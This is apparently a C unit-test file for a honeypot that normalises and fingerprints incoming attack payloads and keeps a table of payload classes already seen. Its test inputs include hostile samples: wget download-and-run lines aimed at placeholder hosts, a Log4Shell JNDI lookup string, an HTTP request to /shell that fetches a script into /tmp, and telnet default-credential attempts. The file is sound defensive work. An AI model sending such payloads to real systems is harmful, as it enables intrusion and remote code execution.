/* Payload classes and the table of those seen. */
#include <errno.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#include "app_support.h"
#include "class/class.h"
#include "class/class_seen.h"

/* The normal form, with markers as N, T and H in brackets. */
static const char *normal(const char *s)
{
	static char text[4096];
	static uint8_t out[1024];
	size_t n = class_normal(bytes_str(s), out), k = 0;
	cr_assert_leq(n, strlen(s));
	for (size_t i = 0; i < n; i++) {
		const char *m = out[i] == CLASS_NUMBER  ? "<N>"
				: out[i] == CLASS_TOKEN ? "<T>"
				: out[i] == CLASS_HOST  ? "<H>"
							: NULL;
		k += (size_t)(m ? sprintf(text + k, "%s", m) : sprintf(text + k, "%c", out[i]));
	}
	text[k] = 0;
	return text;
}

#define same(in, want) cr_expect_str_eq(normal(in), (want))

Test(class, hosts)
{
	same("wget http://203.0.113.9/bins.sh;", "wget http://<H>/bins.sh;");
	same("wget http://evil.example.org:8080/bins.sh;", "wget http://<H>/bins.sh;");
	same("${jndi:ldap://1.2.3.4:1389/a}", "${jndi:ldap://<H>/a}");
	same("x ://", "x ://");
	same("GET / HTTP/1.1\r\nHost: 1.2.3.4:81\r\nA: b\r\n",
	     "GET / HTTP/<N>.<N>\r\nHost: <H>\r\nA: b\r\n");
	same("\r\nhOST:example\r\n", "\r\nhOST:<H>\r\n");
	same("\r\nHost: \r\n", "\r\nHost: \r\n");
	same("tftp -g 1.2.3.4 69", "tftp -g <H> <N>");
	same("connect 1.2.3.4:69,", "connect <H>,");
	same("v 1.2.3.4.5", "v <N>.<N>.<N>.<N>.<N>");
	same("1.2.3", "<N>.<N>.<N>");
	same("1.2.3.4567", "<N>.<N>.<N>.<N>");
	same("1.2.3.4x", "<N>.<N>.<N>.<N>x");
	same("mail a@mail.example.com:25!", "mail a@<H>!");
	same("a@b", "a@b");
	same("ping evil.com", "ping <H>");
	same("ping evil.com:99999x", "ping <H>x");
	same("run a.sh and index.php", "run a.sh and index.php");
	same("to .com", "to .com");
	same("[2001:db8::1]:80 ::1 fe80::1%eth", "[<H>]:<N> <H> <H>%eth");
	same("12:34", "<N>:<N>");
	same("mac 00:1a:2b:3c:4d:5e.", "mac <H>.");
	same("mac 00-1a-2b-3c-4d-5e.", "mac <H>.");
	same("mac 00-1a-2b-3c-4d-5", "mac <N>-<N>a-<N>b-<N>c-<N>d-<N>");
}

Test(class, tokens)
{
	same("id=550e8400-e29b-41d4-a716-446655440000;", "id=<T>;");
	same("s=d41d8cd98f00b204e9800998ecf8427e&", "s=<T>&");
	same("p=0xdeadbeef", "p=<T>");
	same("deadbeef", "deadbeef");
	same("dead1eef", "<T>");
	same("Basic QWxhZGRpbjpvcGVuIHNlc2FtZTEyMw==", "Basic <T>");
	same("boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW\r\n", "boundary=----<T>\r\n");
	same("/cgi-bin/luci/admin/settings", "/cgi-bin/luci/admin/settings");
	same("/boaform/admin/formLogin", "/boaform/admin/formLogin");
	same("k=a8f3k2j9;", "k=<T>;");
	same("user1", "user<N>");
	same("%41%2e\\x90 %zz", "%41%2e\\x90 %zz");
	same("password", "password");
}

Test(class, numbers)
{
	same("a=1&b=22&c=333", "a=<N>&b=<N>&c=<N>");
	same("x-1 +5", "x-<N> +<N>");
	same("", "");
}

/* Long runs of what looks at its surroundings take time in proportion to their length. */
Test(class, linear, .timeout = 240)
{
	static uint8_t in[512 << 10], out[512 << 10];
	static const char *const pieces[] = {"a-",       "a+",      "a@",       "1:",  "f:",   "a.",
					     "1.",       "\nhost:", "://",      "0x",  "a1",   "-",
					     "aaaaaaaa", ":",       "Aaaaaaa-", "f0:", "a1.b-"};
	for (size_t i = 0; i < sizeof pieces / sizeof *pieces; i++) {
		for (size_t k = 0; k < sizeof in; k++)
			in[k] = (uint8_t)pieces[i][k % strlen(pieces[i])];
		cr_expect_leq(class_normal(bytes_of(in, sizeof in), out), sizeof in);
	}
}

static const char *class(uint8_t proto, uint16_t port, const void *p, size_t n)
{
	static char text[2][CLASS_TEXT];
	static int which;
	which = !which;
	see_bytes(proto, port, p, n);
	class_of(bytes_of(p, n), &rec, text[which]);
	return text[which];
}

#define equal(port, a, b)                                        \
	cr_expect_str_eq(class(APP_TCP, port, a, sizeof(a) - 1), \
			 class(APP_TCP, port, b, sizeof(b) - 1))
#define differ(port, a, b)                                        \
	cr_expect_str_neq(class(APP_TCP, port, a, sizeof(a) - 1), \
			  class(APP_TCP, port, b, sizeof(b) - 1))

Test(class, campaigns)
{
	equal(80,
	      "GET /shell?cd+/tmp;wget+http://1.2.3.4/a.sh HTTP/1.1\r\nHost: 9.9.9.9:80\r\n\r\n",
	      "GET /shell?cd+/tmp;wget+http://evil.example.com:8080/a.sh HTTP/1.1\r\nHost: "
	      "8.8.8.8\r\n\r\n");
	differ(80, "GET /shell?a HTTP/1.1\r\n\r\n", "GET /shell?b HTTP/1.1\r\n\r\n");
	equal(23, "admin\r\n1234\r\n", "admin\r\n99\r\n");
	differ(23, "admin\r\nroot\r\n", "admin\r\ntoor\r\n");
	equal(4000, "hello 17", "hello 4");
	differ(4000, "hello 17", "hallo 17");
	equal(3389, "\3\0\0\x2c\x27\xe0\0\0\0\0\0Cookie: mstshash=user1\r\n\1\0\x8\0\3\0\0\0",
	      "\3\0\0\x2d\x28\xe0\0\0\0\0\0Cookie: mstshash=user22\r\n\1\0\x8\0\3\0\0\0");
	cr_expect_str_eq(class(APP_TCP, 1, "", 0), "");
	char text[CLASS_TEXT];
	class_of(bytes_str("x"), NULL, text);
	cr_expect_eq(strlen(text), 34);
	cr_expect_eq(strncmp(text, "1:", 2), 0);
}

/* The class of some bytes must not change unless CLASS_VERSION does. */
Test(class, stable)
{
	char text[CLASS_TEXT];
	class_of(bytes_str("GET /x HTTP/1.0\r\n\r\n"), NULL, text);
	cr_expect_str_eq(text, "1:24b72e9bb533f0fd9e2c7cba7ec753ca");
	cr_expect_str_eq(class(APP_TCP, 80, "GET /x HTTP/1.0\r\n\r\n", 19),
			 "1:b77f353ffb9dabff5d81e93341ffdcc3");
}

/* The ID of a query, the random of a hello and the like are not part of the class. */
Test(class, binary)
{
	size_t n;
	uint8_t p[256], q[256];
	memcpy(p, unhex("1234 0100 0001 0000 0000 0000 03777777 03636f6d 00 00ff 0001", &n), 64);
	memcpy(q, p, sizeof q);
	q[0] = 9;
	cr_expect_str_eq(class(APP_UDP, 53, p, n), class(APP_UDP, 53, q, n));
	q[13] = 'x';
	cr_expect_str_eq(class(APP_UDP, 53, p, n), class(APP_UDP, 53, q, n));
	q[n - 3] = 1;
	cr_expect_str_neq(class(APP_UDP, 53, p, n), class(APP_UDP, 53, q, n));

	memcpy(p,
	       unhex("1603010036 01000032 0303 "
		     "0000000000000000000000000000000000000000000000000000000000000000 00 0004 "
		     "1301 c02b 0100 0005 000a 0001 00",
		     &n),
	       96);
	memcpy(q, p, sizeof q);
	q[20] = 77;
	cr_expect_str_eq(class(APP_TCP, 443, p, n), class(APP_TCP, 443, q, n));
	cr_expect(rec.tls && rec.tls->ja4.n);
	q[46] = 2;
	cr_expect_str_neq(class(APP_TCP, 443, p, n), class(APP_TCP, 443, q, n));
	cr_expect_str_neq(class(APP_TCP, 443, p, n),
			  class(APP_TCP, 443, p, n - 4)); /* without JA4 */
}

/* Every part that is classed by its fields makes some. */
Test(class, all_fields)
{
	static uint8_t out[4096];
	struct bytes x = bytes_str("x"), list[] = {bytes_str("a1"), bytes_str("b2")};
	uint64_t numbers[] = {1, 2};
	struct msg_strs strs = {list, 2};
	struct msg_u64s u64s = {numbers, 2};
	const struct msg_analysis recs[] = {
		{.tls = &(struct msg_tls){.version = x, .ciphers = u64s, .alpn = strs}},
		{.ssh = &(struct msg_ssh){.banner = x, .hassh = x, .hassh_algorithms = x}},
		{.dns = &(struct msg_dns){.type = x}},
		{.smb = &(struct msg_smb){.version = x, .dialects = strs}},
		{.rdp = &(struct msg_rdp){.cookie = x, .protocols = strs}},
		{.mysql = &(struct msg_mysql){.database = x},
		 .login = &(struct msg_login){.user = x}},
		{.postgres = &(struct msg_postgres){.kind = x}},
		{.tds = &(struct msg_tds){.kind = x}},
		{.ldap = &(struct msg_ldap){.operation = x}},
		{.adb = &(struct msg_adb){.services = strs}},
		{.mqtt = &(struct msg_mqtt){.version = x, .topics = strs}},
		{.telnet = &(struct msg_telnet){.lines = strs}},
		{.snmp = &(struct msg_snmp){.version = x}},
		{.modbus = &(struct msg_modbus){.function = 3}},
		{.ntp = &(struct msg_ntp){.version = 3}},
		{.socks = &(struct msg_socks){.version = x, .methods = u64s}},
		{.bitcoin = &(struct msg_bitcoin){.network = x}},
	};
	for (size_t i = 0; i < sizeof recs / sizeof *recs; i++) {
		size_t n = class_fields(&recs[i], out, sizeof out);
		cr_expect_gt(n, 1, "record %zu", i);
		for (size_t max = 0; max <= n; max++) /* less room: less text, no step beyond */
			cr_expect_leq(class_fields(&recs[i], out, max), max);
	}
	struct msg_analysis ssh = {.ssh = &(struct msg_ssh){.banner = x}}, none = {0};
	cr_expect_eq(class_fields(&ssh, out, sizeof out), 0);
	cr_expect_eq(class_fields(&none, out, sizeof out), 0);
}

Test(class, long_payloads)
{
	static uint8_t p[CLASS_MAX_INPUT + 2];
	char a[CLASS_TEXT], b[CLASS_TEXT];
	memset(p, 'x', sizeof p);
	class_of(bytes_of(p, CLASS_MAX_INPUT), NULL, a);
	class_of(bytes_of(p, CLASS_MAX_INPUT + 1), NULL, b);
	cr_expect_str_neq(a, b, "that it is longer counts");
	class_of(bytes_of(p, CLASS_MAX_INPUT + 2), NULL, a);
	cr_expect_str_eq(a, b, "by how much does not");
}

static char path[] = "/tmp/lurker-seen-XXXXXX", bad[64];

static void setup(void)
{
	close(mkstemp(path));
	unlink(path);
	snprintf(bad, sizeof bad, "%s.bad", path);
}

static void teardown(void)
{
	unlink(path);
	unlink(bad);
}

TestSuite(seen, .init = setup, .fini = teardown);

static const char *numbered(unsigned i)
{
	static char text[CLASS_TEXT];
	char s[32];
	snprintf(s, sizeof s, "x%c%c%c", 'a' + i % 26, 'a' + i / 26 % 26, 'a' + i / 676 % 26);
	class_of(bytes_str(s), NULL, text);
	return text;
}

Test(seen, first)
{
	struct class_seen *s;
	struct class_seen_stats stats;
	cr_assert_eq(class_seen_new(100, &s), 0);
	cr_expect_not(class_seen_dirty(s));
	cr_expect(class_seen_note(s, numbered(1), 5));
	cr_expect(class_seen_dirty(s));
	cr_expect_not(class_seen_note(s, numbered(1), 4));
	cr_expect(class_seen_note(s, numbered(2), 0));
	cr_expect_not(class_seen_note(s, "", 1));
	cr_expect_not(class_seen_note(s, "2:00112233445566778899aabbccddeeff", 1));
	cr_expect_not(class_seen_note(s, "1:00112233445566778899aabbccddeef", 1));
	cr_expect_not(class_seen_note(s, "1:00112233445566778899aabbccddeefg", 1));
	cr_expect_not(class_seen_note(s, "1:00112233445566778899aabbccddeeFf", 1));
	class_seen_stats(s, &stats);
	cr_expect_eq(stats.classes, 2);
	class_seen_free(&s);
	cr_expect_null(s);
	class_seen_free(&s);
}

Test(seen, bounded)
{
	struct class_seen *s;
	struct class_seen_stats stats;
	cr_assert_eq(class_seen_new(64, &s), 0);
	for (unsigned i = 0; i < 1000; i++)
		cr_expect(class_seen_note(s, numbered(i), i + 1));
	class_seen_stats(s, &stats);
	cr_expect_leq(stats.classes, 64);
	cr_expect_eq(stats.classes + stats.evicted, 1000);
	cr_expect_not(class_seen_note(s, numbered(999), 2000), "the newest is there");
	cr_expect(class_seen_note(s, numbered(0), 2001), "the oldest went");
	class_seen_free(&s);
}

Test(seen, survives)
{
	struct class_seen *s, *t;
	struct class_seen_stats stats;
	cr_assert_eq(class_seen_new(32768, &s), 0);
	cr_assert_eq(class_seen_load(s, path), 0, "no file yet");
	for (unsigned i = 0; i < 2000; i++)
		class_seen_note(s, numbered(i), i + 1);
	cr_assert_eq(class_seen_save(s, path), 0);
	cr_expect_not(class_seen_dirty(s));
	cr_assert_eq(class_seen_new(32768, &t), 0);
	cr_assert_eq(class_seen_load(t, path), 0);
	for (unsigned i = 0; i < 2000; i++)
		cr_expect_not(class_seen_note(t, numbered(i), 3000));
	class_seen_stats(t, &stats);
	cr_expect_eq(stats.classes, 2000);
	class_seen_free(&t);
	/* A smaller table keeps the latest. */
	cr_assert_eq(class_seen_new(8, &t), 0);
	cr_assert_eq(class_seen_load(t, path), 0);
	class_seen_stats(t, &stats);
	cr_expect_eq(stats.classes, 8);
	cr_expect_eq(stats.evicted, 0);
	for (unsigned i = 1992; i < 2000; i++)
		cr_expect_not(class_seen_note(t, numbered(i), 3000));
	class_seen_free(&t);
	class_seen_free(&s);
}

Test(seen, damage)
{
	struct class_seen *s;
	struct stat st;
	static char data[4096];

	cr_assert_eq(class_seen_new(64, &s), 0);
	class_seen_note(s, numbered(1), 1);
	class_seen_note(s, numbered(2), 2);
	cr_assert_eq(class_seen_save(s, path), 0);
	FILE *f = fopen(path, "rb");
	size_t n = fread(data, 1, sizeof data, f);
	fclose(f);
	cr_assert_eq(n, 48 + 2 * 24);
	for (size_t i = 0; i < 2 * n; i++) { /* each byte changed, then each length */
		f = fopen(path, "wb");
		if (i < n)
			data[i] ^= 1;
		fwrite(data, 1, i < n ? n : i - n, f);
		fclose(f);
		if (i < n)
			data[i] ^= 1;
		cr_expect_eq(class_seen_load(s, path), -EBADMSG, "case %zu", i);
		cr_expect_eq(stat(path, &st), -1, "it is put aside");
		cr_expect_eq(stat(bad, &st), 0);
		cr_expect(class_seen_note(s, numbered(1), 1), "and the table is empty");
	}
	f = fopen(path, "wb");
	fwrite(data, 1, n, f);
	fputc(0, f);
	fclose(f);
	cr_expect_eq(class_seen_load(s, path), -EBADMSG);
	cr_expect_eq(class_seen_load(s, "/tmp"), -EIO, "a directory");
	cr_expect_lt(class_seen_save(s, "/nowhere/at/all"), 0);
	cr_expect_eq(class_seen_load(s, "/dev/null/x"), -ENOTDIR);
	class_seen_free(&s);
}

/* When the disk has no room, the old file stays and the table is still to be saved. */
Test(seen, full_disk)
{
	struct class_seen *s, *t;
	struct stat before, after;
	char tmp[64];

	snprintf(tmp, sizeof tmp, "%s.new", path);
	cr_assert_eq(class_seen_new(64, &s), 0);
	class_seen_note(s, numbered(1), 1);
	cr_assert_eq(class_seen_save(s, path), 0);
	cr_assert_eq(stat(path, &before), 0);
	class_seen_note(s, numbered(2), 2);
	signal(SIGXFSZ, SIG_IGN);
	cr_assert_eq(setrlimit(RLIMIT_FSIZE, &(struct rlimit){60, 60}), 0);
	cr_expect_lt(class_seen_save(s, path), 0);
	cr_expect(class_seen_dirty(s));
	cr_expect_eq(stat(tmp, &after), -1, "nothing is left behind");
	cr_assert_eq(stat(path, &after), 0);
	cr_expect_eq(before.st_ino, after.st_ino);
	cr_assert_eq(class_seen_new(64, &t), 0);
	cr_assert_eq(class_seen_load(t, path), 0);
	cr_expect_not(class_seen_note(t, numbered(1), 3));
	cr_expect(class_seen_note(t, numbered(2), 3));
	class_seen_free(&s);
	class_seen_free(&t);
}
